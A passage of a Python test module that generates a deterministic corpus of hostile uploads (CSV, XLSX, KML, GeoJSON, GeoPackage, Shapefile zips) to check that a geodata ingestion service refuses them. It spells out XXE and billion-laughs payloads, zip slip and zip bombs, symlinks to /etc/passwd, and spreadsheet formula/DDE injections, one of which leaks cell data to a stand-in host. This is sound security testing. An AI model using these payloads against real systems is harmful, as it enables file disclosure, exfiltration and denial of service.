"""A deterministic corpus of hostile uploads for every accepted format (issue 8).

:func:`build_corpus` writes nothing outside ``out`` and returns a list of :class:`Case`: the
bytes (or a file, for big ones), the name the file is uploaded under, the form fields (layer,
mapping, settlement, round, crs) and a category. The same arguments give the same corpus:
randomness (bit-flips) comes from seeded generators only.

The cases are the existing hostile tests (``tests/service/test_ingestion.py``,
``tests/profiling/test_hostile_inputs.py``) plus the attacks of issue 8, each multiplied over
the containers it can hide in (CSV, Kobo XLSX, ODK zip, GeoJSON, GeoPackage, zipped
Shapefile, KML/KMZ, GeoTIFF). Cases that try to read local files point at ``canary``, a file
holding :data:`CANARY`, so that a leak shows up wherever the text lands.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import random
import re
import sqlite3
import stat
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pyogrio
import rasterio
import shapely
from rasterio.transform import from_origin

from sample_data.households import generate_households_csv

__all__ = ["CANARY", "Case", "build_corpus", "plant_canary"]

CANARY = "CANARY-3b9d71e4-hostile-corpus-never-leak"
"""The secret planted in the canary file; it must never come back from the service."""

REMOTE = "10.255.255.1"
"""A non-routable address: a connect() to it shows in strace and never reaches anyone."""

HH = {"layer": "households", "mapping": "demo_households", "settlement": "mtoni", "round": "hc"}
SP = {"layer": "service_points", "mapping": "demo_service_points"}
SETTLEMENTS = {"layer": "settlements", "mapping": "demo_settlements"}
STRUCTURES = {"layer": "structures", "mapping": "demo_structures"}
HAZARD = {"layer": "hazard_zones", "mapping": "demo_hazard_zones"}
FLOOD = {"layer": "flood_depth"}
BUILT = {"layer": "built_up_epoch"}


@dataclass(frozen=True)
class Case:
    """One hostile upload."""

    name: str
    category: str
    filename: str
    fields: dict[str, str]
    data: bytes | None = None
    path: Path | None = None
    expect: str = "refused"
    """``refused`` or ``may_accept`` (valid-but-weird content the service may store)."""
    touches: tuple[str, ...] = field(default=())
    """Absolute paths the service must never create."""

    def content(self) -> bytes:
        """The bytes to upload."""
        if self.data is not None:
            return self.data
        assert self.path is not None
        return self.path.read_bytes()

    @property
    def size(self) -> int:
        return len(self.data) if self.data is not None else self.path.stat().st_size  # type: ignore[union-attr]


def plant_canary(folder: Path) -> Path:
    """Write the canary secret (a CSV with a WKT column, readable by GDAL) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    canary = folder / "canary.csv"
    canary.write_text(f"id,secret,WKT\n1,{CANARY},POINT (36.8 -1.3)\n")
    return canary


# ------------------------------------------------------------------------------- helpers


def zip_bytes(
    members: dict[str, bytes] | list[tuple[str | zipfile.ZipInfo, bytes]],
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    buffer = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with zipfile.ZipFile(buffer, "w", method) as zf:
        for name, data in items:
            if isinstance(name, zipfile.ZipInfo):
                zf.writestr(name, data)
            else:
                zf.writestr(name, data, compress_type=method)
    return buffer.getvalue()


def symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def feature_collection(features: list[dict], **extra: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", **extra, "features": features}).encode()


def point_feature(props: dict | None = None, x: float = 36.8, y: float = -1.3) -> dict:
    return {
        "type": "Feature",
        "properties": props or {},
        "geometry": {"type": "Point", "coordinates": [x, y]},
    }


def kml_doc(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'
    ).encode()


def placemark(name: str = "tap", x: float = 36.8, y: float = -1.3) -> str:
    return (
        f"<Placemark><name>{name}</name>"
        f"<Point><coordinates>{x},{y}</coordinates></Point></Placemark>"
    )


def flip_bits(data: bytes, seed: int, flips: int) -> bytes:
    """``flips`` random bits of ``data`` inverted, chosen by ``seed``."""
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(flips):
        i = rng.randrange(len(out))
        out[i] ^= 1 << rng.randrange(8)
    return bytes(out)


class _Builder:
    """Collects cases, refusing duplicate names or duplicate inputs."""

    def __init__(self, out: Path) -> None:
        self.out = out
        self.cases: list[Case] = []
        self._names: set[str] = set()
        self._digests: dict[str, str] = {}

    def add(
        self,
        category: str,
        name: str,
        content: bytes | Path,
        filename: str,
        fields: dict[str, str],
        *,
        expect: str = "refused",
        touches: tuple[str, ...] = (),
    ) -> None:
        name = f"{category}/{name}"
        assert name not in self._names, name
        self._names.add(name)
        data = content.read_bytes() if isinstance(content, Path) else content
        digest = hashlib.sha256(
            data + json.dumps([filename, fields], sort_keys=True).encode()
        ).hexdigest()
        assert digest not in self._digests, f"{name} repeats {self._digests[digest]}"
        self._digests[digest] = name
        if len(data) > 1_000_000:
            path = self.out / f"case-{len(self.cases):04d}.bin"
            path.write_bytes(data)
            case = Case(name, category, filename, dict(fields), path=path, expect=expect)
        else:
            case = Case(name, category, filename, dict(fields), data=data, expect=expect)
        if touches:
            case = Case(**{**case.__dict__, "touches": touches})
        self.cases.append(case)


# ------------------------------------------------------------------------- valid bases


@dataclass
class _Bases:
    """Valid files of every format, built from the demo city and a clean Kobo export."""

    households_csv: bytes  # clean Kobo CSV, mtoni rows only
    households_xlsx: bytes  # clean Kobo XLSX
    demo_csv: bytes  # the demo's export (with its injected errors)
    demo_xlsx: bytes
    odk_zip: bytes
    settlements_geojson: bytes
    service_points_geojson: bytes
    hazard_geojson: bytes
    structures_gpkg: bytes
    shapefile_members: dict[str, bytes]
    kml: bytes
    kmz: bytes
    flood_tif: bytes
    built_tif: bytes
    tiny_gpkg: Path


def _clean_households(tmp: Path) -> tuple[bytes, bytes]:
    path = tmp / "clean.csv"
    xlsx = tmp / "clean.xlsx"
    generate_households_csv(path, 300, seed=3, errors=False, xlsx_path=xlsx, xlsx_rows=40)
    reader = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";")
    rows = [r for r in reader if r["intro/settlement"] == "mtoni"][:6]
    text = io.StringIO()
    writer = csv.DictWriter(
        text, list(reader.fieldnames or []), delimiter=";", lineterminator="\r\n"
    )
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode(), xlsx.read_bytes()


def _bases(city: Path, tmp: Path) -> _Bases:
    households_csv, households_xlsx = _clean_households(tmp)
    settlements = gpd.read_file(city / "settlements.geojson")
    shp = tmp / "shp"
    shp.mkdir()
    pyogrio.write_dataframe(settlements, shp / "settlements.shp")
    members = {p.name: p.read_bytes() for p in sorted(shp.iterdir())}
    points = gpd.read_file(city / "service_points.geojson").head(8)
    kml = kml_doc(
        "".join(placemark(str(r.name), r.geometry.x, r.geometry.y) for r in points.itertuples())
    )
    tiny = tmp / "tiny.gpkg"
    frame = gpd.GeoDataFrame(
        {"sp_id": ["x1"], "category": ["water"], "name": ["tap"]},
        geometry=[shapely.Point(36.8, -1.3)],
        crs=4326,
    )
    pyogrio.write_dataframe(frame, tiny, layer="points")
    return _Bases(
        households_csv=households_csv,
        households_xlsx=households_xlsx,
        demo_csv=(city / "households_kobo.csv").read_bytes(),
        demo_xlsx=(city / "households_kobo.xlsx").read_bytes(),
        odk_zip=zip_bytes({"households.csv": households_csv}),
        settlements_geojson=(city / "settlements.geojson").read_bytes(),
        service_points_geojson=(city / "service_points.geojson").read_bytes(),
        hazard_geojson=(city / "flood_extent.geojson").read_bytes(),
        structures_gpkg=(city / "structures.gpkg").read_bytes(),
        shapefile_members=members,
        kml=kml,
        kmz=zip_bytes({"doc.kml": kml}),
        flood_tif=(city / "flood_depth.tif").read_bytes(),
        built_tif=(city / "built_up_epochs.tif").read_bytes(),
        tiny_gpkg=tiny,
    )


# ------------------------------------------------------------------------------ families


def _existing(b: _Builder, bases: _Bases, canary: Path, tmp: Path) -> None:
    """The cases of test_ingestion.py ``_hostile`` and test_hostile_inputs.py, over HTTP."""
    cat = "existing"
    b.add(cat, "empty", b"", "households.csv", HH)
    whole = zip_bytes({"a.csv": b"x;y\n" * 10_000})
    b.add(cat, "truncated_zip", whole[:300], "a.zip", HH)
    shp_zip = zip_bytes(bases.shapefile_members)
    b.add(cat, "truncated_shapefile_zip_half", shp_zip[: len(shp_zip) // 2], "s.zip", SETTLEMENTS)
    raw = bytearray(zip_bytes({"taps.csv": b"id,name\n" * 1000}))
    raw[40:60] = b"\xff" * 20
    b.add(cat, "zip_corrupt_member_data", bytes(raw), "taps.zip", HH)
    b.add(
        cat,
        "zip_slip",
        zip_bytes({"../evil.shp": b"x", "../evil.dbf": b"x", "../evil.shx": b"x"}),
        "e.zip",
        SP,
    )
    b.add(
        cat,
        "zip_bomb_shp",
        zip_bytes({"bomb.shp": bytes(60_000_000), "bomb.dbf": b"", "bomb.shx": b""}),
        "bomb.zip",
        SP,
    )
    b.add(
        cat,
        "kml_xxe_passwd",
        b'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&x;</name>'
        b"<Point><coordinates>36.8,-1.3</coordinates></Point></Placemark></kml>",
        "x.kml",
        SP,
    )
    b.add(
        cat,
        "kml_external_dtd_passwd",
        kml_doc(placemark(), '<!DOCTYPE kml SYSTEM "file:///etc/passwd">'),
        "x.kml",
        SP,
    )
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="s"><SrcDataSource>{canary}'
        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()
    b.add(cat, "vrt_as_geojson", vrt, "settlements.geojson", SETTLEMENTS)
    vrt_members = {"taps.shp": vrt, "taps.shx": b"", "taps.dbf": b"", "taps.prj": b""}
    b.add(cat, "vrt_as_shp_in_zip", zip_bytes(vrt_members), "taps.zip", SP)
    b.add(
        cat,
        "vsicurl_name",
        b'{"type": "FeatureCollection", "features": []}',
        "/vsicurl/http://127.0.0.1:9/x.geojson",
        SP,
    )
    no_prj = {k: v for k, v in bases.shapefile_members.items() if not k.endswith(".prj")}
    b.add(cat, "shapefile_without_prj", zip_bytes(no_prj), "settlements.zip", SETTLEMENTS)
    b.add(
        cat,
        "user_crs_naming_a_file",
        zip_bytes(no_prj),
        "settlements_crs.zip",
        {**SETTLEMENTS, "crs": "/etc/passwd"},
    )
    n = 1_000_000
    angles = np.linspace(0, 2 * np.pi, n, endpoint=False)
    ring = ", ".join(
        f"[{36.8 + 0.01 * c:.7f}, {-1.3 + 0.01 * s:.7f}]"
        for c, s in zip(np.cos(angles), np.sin(angles), strict=True)
    )
    b.add(
        cat,
        "million_vertices_geojson",
        (
            '{"type":"FeatureCollection","features":[{"type":"Feature","properties":'
            '{"hazard_id":"h1","hazard_type":"flood"},"geometry":{"type":"Polygon",'
            f'"coordinates":[[{ring}, [36.81, -1.3]]]}}}}]}}'
        ).encode(),
        "flood.geojson",
        HAZARD,
    )
    huge = shapely.Polygon(
        np.column_stack([36.78 + 0.01 * np.cos(angles), -1.31 + 0.01 * np.sin(angles)])
    )
    big = tmp / "estate.gpkg"
    pyogrio.write_dataframe(
        gpd.GeoDataFrame(
            {"name": ["plot", "estate"]},
            geometry=[shapely.box(36.7, -1.4, 36.8, -1.3), huge],
            crs=4326,
        ),
        big,
    )
    b.add(cat, "million_vertices_gpkg", big, "estate.gpkg", STRUCTURES)
    b.add(
        cat,
        "nan_polygon",
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":'
        b'{"hazard_id":"h1","hazard_type":"flood"},"geometry":{"type":"Polygon",'
        b'"coordinates":[[[36.8,-1.3],[NaN,-1.3],[36.81,-1.31],[36.8,-1.3]]]}}]}',
        "flood.geojson",
        HAZARD,
    )
    b.add(
        cat,
        "infinite_point",
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"sp_id":"i"},'
        b'"geometry":{"type":"Point","coordinates":[Infinity,1]}}]}',
        "inf.geojson",
        SP,
    )
    b.add(cat, "latin1_text", "nom;quartier\nCité;Kisenso\n".encode("latin-1"), "h.csv", HH)
    b.add(cat, "binary_noise", bytes(range(1, 256)) * 64, "h.csv", HH)
    b.add(cat, "utf16_csv", "id,nom\n1,Cité\n".encode("utf-16"), "h.csv", HH)
    b.add(
        cat,
        "latin1_geojson",
        feature_collection([point_feature({"nom": "X"})]).replace(
            b'"X"', '"Cité"'.encode("latin-1")
        ),
        "p.geojson",
        SP,
    )
    link = zip_bytes(
        [*((k, v) for k, v in bases.shapefile_members.items() if not k.endswith(".dbf")),
         (symlink_info("settlements.dbf"), b"/etc/passwd")]
    )  # fmt: skip
    b.add(cat, "zip_symlink_dbf_passwd", link, "s.zip", SETTLEMENTS)
    b.add(
        cat,
        "kml_network_link",
        kml_doc(
            "<NetworkLink><name>more</name><Link><href>http://example.com/more.kml</href></Link></NetworkLink>"
        ),
        "x.kml",
        SP,
    )
    alg = {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline read {canary}"}
    b.add(cat, "gdalg_pipeline", json.dumps(alg).encode(), "x.geojson", SP)
    wkt = tmp / "crs.wkt"
    wkt.write_text(
        f'GEOGCS["{CANARY}",DATUM["d",SPHEROID["s",6378137,298.257]],PRIMEM["G",0],'
        'UNIT["degree",0.0174532925199433]]'
    )
    doc = json.loads(feature_collection([point_feature({"sp_id": "crs1"})]))
    doc["crs"] = {"type": "name", "properties": {"name": str(wkt)}}
    b.add(cat, "geojson_crs_naming_a_file", json.dumps(doc).encode(), "p.geojson", SP)
    mbtiles = tmp / "tiles.gpkg"
    with sqlite3.connect(mbtiles) as con:
        con.execute("PRAGMA application_id = 0x4D504258")
        con.execute("CREATE TABLE metadata (name text, value text)")
        con.execute("CREATE TABLE tiles (zoom_level int, tile_column int, tile_row int)")
    con.close()
    b.add(cat, "mbtiles_named_gpkg", mbtiles, "tiles.gpkg", STRUCTURES)
    plain = tmp / "plain.gpkg"
    with sqlite3.connect(plain) as con:
        con.execute("CREATE TABLE households (id int, name text)")
    con.close()
    b.add(cat, "plain_sqlite_named_gpkg", plain, "plain.gpkg", STRUCTURES)
    depth = 200_000
    nested = "[" * depth + "]" * depth
    b.add(
        cat,
        "nested_200k_coordinates",
        (
            '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},'
            f' "geometry": {{"type": "Point", "coordinates": {nested}}}}}]}}'
        ).encode(),
        "deep.geojson",
        SP,
    )
    b.add(cat, "png", b"\x89PNG\r\n\x1a\n" + bytes(200), "h.csv", HH)
    b.add(cat, "elf", b"\x7fELF\x02\x01\x01\x00" + bytes(200), "h.csv", HH)
    b.add(
        cat,
        "xml_entity_not_kml",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x/>',
        "h.csv",
        HH,
    )


def _nesting(b: _Builder) -> None:
    cat = "deep_nesting"
    for depth in (10_000, 100_000):
        arr = "[" * depth + "]" * depth
        obj = '{"a":' * depth + "1" + "}" * depth
        head = '{"type":"FeatureCollection","features":[{"type":"Feature",'
        b.add(
            cat,
            f"coordinates_{depth}",
            f'{head}"properties":{{}},"geometry":{{"type":"Polygon","coordinates":{arr}}}}}]}}'.encode(),
            "d.geojson",
            HAZARD,
        )
        b.add(
            cat,
            f"property_array_{depth}",
            f'{head}"properties":{{"x":{arr}}},"geometry":{{"type":"Point","coordinates":[36.8,-1.3]}}}}]}}'.encode(),
            "d.geojson",
            SP,
        )
        b.add(
            cat,
            f"property_object_{depth}",
            f'{head}"properties":{{"x":{obj}}},"geometry":{{"type":"Point","coordinates":[36.8,-1.3]}}}}]}}'.encode(),
            "d.geojson",
            SP,
        )
        b.add(cat, f"top_level_array_{depth}", arr.encode(), "d.geojson", SP)
        gc = '{"type":"GeometryCollection","geometries":[' * (depth // 10) + "]}" * (depth // 10)
        b.add(
            cat,
            f"geometry_collections_{depth // 10}",
            f'{head}"properties":{{}},"geometry":{gc}}}]}}'.encode(),
            "d.geojson",
            HAZARD,
        )
        folders = "<Folder>" * depth + placemark() + "</Folder>" * depth
        b.add(cat, f"kml_folders_{depth}", kml_doc(folders), "d.kml", SP)
        b.add(cat, f"kmz_folders_{depth}", zip_bytes({"doc.kml": kml_doc(folders)}), "d.kmz", SP)
        xml = "<g>" * depth + "</g>" * depth
        b.add(
            cat,
            f"odk_xml_{depth}",
            f'<?xml version="1.0"?><data id="hh">{xml}</data>'.encode(),
            "submission.xml",
            HH,
        )


def _huge_strings(b: _Builder, bases: _Bases, max_upload_bytes: int) -> None:
    cat = "huge_strings"
    big = "A" * (max_upload_bytes - 200_000)
    b.add(
        cat,
        "geojson_property_under_limit",
        feature_collection([point_feature({"sp_id": "h1", "name": big})]),
        "big.geojson",
        SP,
    )
    over = "B" * (max_upload_bytes + 10_000)
    b.add(
        cat,
        "geojson_property_over_limit",
        feature_collection([point_feature({"sp_id": "h2", "name": over})]),
        "big.geojson",
        SP,
    )
    header = bases.households_csv.split(b"\r\n", 1)[0]
    b.add(cat, "csv_cell_2mb", header + b"\r\n" + b'"' + b"C" * 2_000_000 + b'"\r\n', "h.csv", HH)
    b.add(
        cat,
        "csv_header_200k_columns",
        b";".join(b"c%d" % i for i in range(200_000)) + b"\r\n1\r\n",
        "h.csv",
        HH,
    )
    b.add(cat, "csv_column_name_1mb", b"D" * 1_000_000 + b";x\r\n1;2\r\n", "h.csv", HH)
    b.add(cat, "csv_one_line_no_newline_3mb", b"E;" * 1_500_000, "h.csv", HH)
    b.add(cat, "kml_name_5mb", kml_doc(placemark("N" * 5_000_000)), "big.kml", SP)
    b.add(
        cat,
        "geojson_property_key_1mb",
        feature_collection([point_feature({"K" * 1_000_000: 1})]),
        "k.geojson",
        SP,
    )
    b.add(
        cat,
        "geojson_5000_properties",
        feature_collection([point_feature({f"p{i}": i for i in range(5000)})]),
        "w.geojson",
        SP,
    )
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["_uuid", "note"])
    ws.append(["u1", "F" * 40_000])  # over Excel's 32,767-character cell limit
    out = io.BytesIO()
    wb.save(out)
    b.add(cat, "xlsx_cell_over_excel_limit", out.getvalue(), "h.xlsx", HH)


def _mixed_geometries(b: _Builder) -> None:
    cat = "mixed_geometry"
    poly = {
        "type": "Polygon",
        "coordinates": [[[36.8, -1.3], [36.801, -1.3], [36.801, -1.301], [36.8, -1.3]]],
    }
    line = {"type": "LineString", "coordinates": [[36.8, -1.3], [36.801, -1.301]]}
    pt = {"type": "Point", "coordinates": [36.8, -1.3]}
    weird: dict[str, list[dict | None]] = {
        "point_line_polygon": [pt, line, poly],
        "collection": [{"type": "GeometryCollection", "geometries": [pt, line, poly]}],
        "empty_collection": [{"type": "GeometryCollection", "geometries": []}],
        "null_and_point": [None, pt],
        "unknown_type": [{"type": "Circle", "coordinates": [36.8, -1.3], "radius": 5}],
        "4d_coordinates": [{"type": "Point", "coordinates": [36.8, -1.3, 1, 2, 3]}],
        "one_coordinate": [{"type": "Point", "coordinates": [36.8]}],
        "string_coordinates": [{"type": "Point", "coordinates": ["36.8", "-1.3"]}],
        "unclosed_ring": [
            {"type": "Polygon", "coordinates": [[[36.8, -1.3], [36.9, -1.3], [36.9, -1.4]]]}
        ],
        "out_of_range_lonlat": [{"type": "Point", "coordinates": [720.0, -95.0]}],
    }
    for target_name, fields in (
        ("service_points", SP),
        ("hazard_zones", HAZARD),
        ("settlements", SETTLEMENTS),
    ):
        for name, geoms in weird.items():
            features = [
                {
                    "type": "Feature",
                    "properties": {
                        "sp_id": f"m{i}",
                        "hazard_id": f"m{i}",
                        "settlement_id": f"m{i}",
                    },
                    "geometry": g,
                }
                for i, g in enumerate(geoms)
            ]
            b.add(
                cat,
                f"{target_name}_{name}",
                feature_collection(features),
                f"{name}.geojson",
                fields,
            )


CRS_STRINGS = {
    "epsg_999999": "EPSG:999999",
    "epsg_negative": "EPSG:-1",
    "epsg_zero": "EPSG:0",
    "epsg_huge": "urn:ogc:def:crs:EPSG::99999999999999999999",
    "passwd": "/etc/passwd",
    "canary_path": "{canary}",
    "file_url": "file://{canary}",
    "proj_init": "+proj=longlat +init={canary}",
    "proj_grid": "+proj=longlat +nadgrids=@{canary}",
    "vsicurl": "/vsicurl/http://" + REMOTE + "/x.prj",
    "http_url": "http://" + REMOTE + "/crs.wkt",
}


def _crs(b: _Builder, bases: _Bases, canary: Path, tmp: Path) -> None:
    cat = "crs"
    no_prj = {k: v for k, v in bases.shapefile_members.items() if not k.endswith(".prj")}
    for i, (name, template) in enumerate(CRS_STRINGS.items()):
        text = template.format(canary=canary)
        doc = json.loads(
            feature_collection([point_feature({"sp_id": f"crs{i}", "category": "bogus"})])
        )
        doc["crs"] = {"type": "name", "properties": {"name": text}}
        b.add(cat, f"geojson_member_{name}", json.dumps(doc).encode(), "p.geojson", SP)
        b.add(
            cat,
            f"prj_{name}",
            zip_bytes({**no_prj, "settlements.prj": text.encode()}),
            "s.zip",
            SETTLEMENTS,
        )
        b.add(
            cat,
            f"form_field_{name}",
            zip_bytes(no_prj),
            f"s_{name}.zip",
            {**SETTLEMENTS, "crs": text},
        )
        gpkg = tmp / f"crs_{name}.gpkg"
        gpkg.write_bytes(bases.tiny_gpkg.read_bytes())
        with sqlite3.connect(gpkg) as con:
            con.execute(
                "INSERT INTO gpkg_spatial_ref_sys VALUES ('hostile', ?, 'HOSTILE', ?, ?, NULL)",
                (990000 + i, 990000 + i, text),
            )
            con.execute("UPDATE gpkg_geometry_columns SET srs_id = ?", (990000 + i,))
            con.execute("UPDATE gpkg_contents SET srs_id = ?", (990000 + i,))
        con.close()
        b.add(cat, f"gpkg_srs_{name}", gpkg, "p.gpkg", STRUCTURES)


FORMULAS = [
    '=HYPERLINK("http://' + REMOTE + '/?leak="&A2,"click")',
    '=WEBSERVICE("http://' + REMOTE + '/x")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML("http://' + REMOTE + '/x","//a")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "\t=1+2",
    '=INFO("directory")',
    "='file:///{canary}'#$Sheet1.A1",
]


def _xlsx_with(parts: dict[str, bytes], base: bytes) -> bytes:
    """``base`` (an XLSX zip) with ``parts`` replaced or added."""
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    members.update(parts)
    return zip_bytes(members)


def _small_xlsx(rows: list[tuple], cells: dict[tuple[int, int], str]) -> bytes:
    """An XLSX of ``rows`` with ``cells`` ((row, column) → value, 1-based) overwritten."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(list(row))
    for (r, c), value in cells.items():
        ws.cell(row=r, column=c, value=value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _formulas(b: _Builder, bases: _Bases, canary: Path) -> None:
    cat = "formulas"
    wb = openpyxl.load_workbook(io.BytesIO(bases.households_xlsx), read_only=True)
    xlsx_rows = [tuple(r) for r in wb.worksheets[0].iter_rows(max_row=4, values_only=True)]
    wb.close()
    header_line, *rows = bases.households_csv.decode().split("\r\n")
    header = header_line.split(";")
    first = rows[0].split(";")
    uuid_col = header.index('"_uuid"') if '"_uuid"' in header else header.index("_uuid")
    settlement_col = next(i for i, h in enumerate(header) if "intro/settlement" in h)
    # every formula in a free-text column of one file: stored as text (accepted, one recompute)
    lines = [";".join([*header, '"comment"'])]
    for i, formula in enumerate(FORMULAS):
        cells = list(first)
        cells[uuid_col] = f'"hc-formula-{i}"'
        lines.append(
            ";".join([*cells, '"' + formula.format(canary=canary).replace('"', '""') + '"'])
        )
    b.add(cat, "csv_all_formulas_as_text", ("\r\n".join(lines) + "\r\n").encode(), "h.csv",
          {**HH, "round": "hc-formulas"}, expect="may_accept")  # fmt: skip
    xlsx_id_col = next(i for i, h in enumerate(xlsx_rows[0], start=1) if h and "_uuid" in str(h))
    for i, formula in enumerate(FORMULAS):
        f = formula.format(canary=canary)
        cells = list(first)
        quoted = '"' + f.replace('"', '""') + '"'
        # the formula as a coded value (the settlement): an unmapped value, refused
        cells[settlement_col] = quoted
        body = ";".join(header) + "\r\n" + ";".join(cells) + "\r\n"
        b.add(cat, f"csv_as_settlement_{i}", body.encode(), "h.csv", HH)
        cells = list(first)
        # the same formula as the UUID: an id must not be a formula
        cells[uuid_col] = quoted
        b.add(
            cat,
            f"csv_as_id_{i}",
            (";".join(header) + "\r\n" + ";".join(cells) + "\r\n").encode(),
            "h.csv",
            HH,
        )
        b.add(
            cat,
            f"xlsx_{i}",
            _small_xlsx(xlsx_rows, {(2, xlsx_id_col): f, (3, xlsx_id_col): f}),
            "h.xlsx",
            {**HH, "round": f"hc-x{i}"},
            expect="may_accept",
        )
    # external links: real externalLink parts pointing at the canary and at a remote host
    for j, target in enumerate(
        (
            f"file://{canary}",
            f"http://{REMOTE}/book.xlsx",
            str(canary),
            f"\\\\{REMOTE}\\share\\b.xlsx",
        )
    ):
        link = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>x</v></cell>'
            b"</row></sheetData></sheetDataSet></externalBook></externalLink>"
        )
        rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/externalLinkPath" Target="{target}" TargetMode="External"/>'
            "</Relationships>"
        ).encode()
        linked = _small_xlsx(xlsx_rows, {(2, 2): "=[1]Sheet1!A1"})
        parts = {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        }
        b.add(cat, f"xlsx_external_link_{j}", _xlsx_with(parts, linked), "h.xlsx", HH)
    vba = _xlsx_with({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)}, bases.households_xlsx)
    b.add(cat, "xlsm_vba_project", vba, "h.xlsm", HH)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["_uuid"])
    ws.append(["=" + "+".join(["1"] * 8000)])
    out = io.BytesIO()
    wb.save(out)
    b.add(cat, "xlsx_formula_8000_terms", out.getvalue(), "h.xlsx", HH)


def _xml_attacks(canary: Path) -> dict[str, tuple[str, str]]:
    """(prolog, reference) per attack: the prolog goes before the root, the reference in text."""
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    quad = "Q" * 50_000
    return {
        "billion_laughs": (f"<!DOCTYPE r [{laughs}]>", "&lol9;"),
        "quadratic_blowup": (f'<!DOCTYPE r [<!ENTITY q "{quad}">]>', "&q;" * 2000),
        "xxe_file_canary": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary}">]>', "&x;"),
        "xxe_http": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "http://{REMOTE}/x">]>', "&x;"),
        "xxe_parameter": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "file://{canary}"> %p;]>', "x"),
        "external_dtd_http": (f'<!DOCTYPE r SYSTEM "http://{REMOTE}/x.dtd">', "x"),
        "doctype_lowercase_after_comment": (
            f'<!-- c --><!doctype r [<!entity x SYSTEM "file://{canary}">]>',
            "&x;",
        ),
        "xinclude_canary": (
            "",
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="file://{canary}" parse="text"/>',
        ),
        "xml_stylesheet_http": (
            f'<?xml-stylesheet type="text/xsl" href="http://{REMOTE}/x.xsl"?>',
            "x",
        ),
        "schema_location_http": (
            "",
            f'<s xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://x http://{REMOTE}/x.xsd"/>',
        ),
    }


def _xml(b: _Builder, bases: _Bases, canary: Path) -> None:
    cat = "xml"
    with zipfile.ZipFile(io.BytesIO(bases.households_xlsx)) as zf:
        strings = (
            zf.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in zf.namelist()
            else None
        )
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        ctypes = zf.read("[Content_Types].xml").decode()

    def inject(xml: str, prolog: str, ref: str, text_re: str | None) -> bytes:
        decl = re.match(r"<\?xml[^>]*\?>", xml)
        head, rest = (xml[: decl.end()], xml[decl.end() :]) if decl else ("", xml)
        if text_re is not None:
            rest = re.sub(text_re, lambda m: m.group(1) + ref + m.group(3), rest, count=1)
        return (head + prolog + rest).encode()

    for name, (prolog, ref) in _xml_attacks(canary).items():
        b.add(cat, f"kml_{name}", kml_doc(placemark(ref), prolog), "x.kml", SP)
        b.add(
            cat, f"kmz_{name}", zip_bytes({"doc.kml": kml_doc(placemark(ref), prolog)}), "x.kmz", SP
        )
        b.add(
            cat,
            f"odk_xml_{name}",
            f'<?xml version="1.0"?>{prolog}<data id="hh"><name>{ref}</name></data>'.encode(),
            "submission.xml",
            HH,
        )
        b.add(
            cat,
            f"xlsx_sheet_{name}",
            _xlsx_with(
                {"xl/worksheets/sheet1.xml": inject(sheet, prolog, ref, r"(<v>)([^<]*)(</v>)")},
                bases.households_xlsx,
            ),
            "h.xlsx",
            HH,
        )
        if prolog:
            b.add(
                cat,
